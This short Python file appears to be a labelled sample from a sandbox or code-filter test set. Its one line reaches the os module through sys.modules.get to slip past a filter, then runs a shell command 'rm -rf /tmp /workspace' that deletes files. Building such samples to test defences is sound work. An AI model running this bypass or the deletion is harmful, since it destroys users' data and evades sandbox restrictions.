# attack-class: 3
# title: sys.modules.get with a fallback
# why: get() instead of subscription, result used inline

from sys import modules as loaded

loaded.get("os").execl("/bin/sh", "sh", "-c", "rm -rf /tmp /workspace")
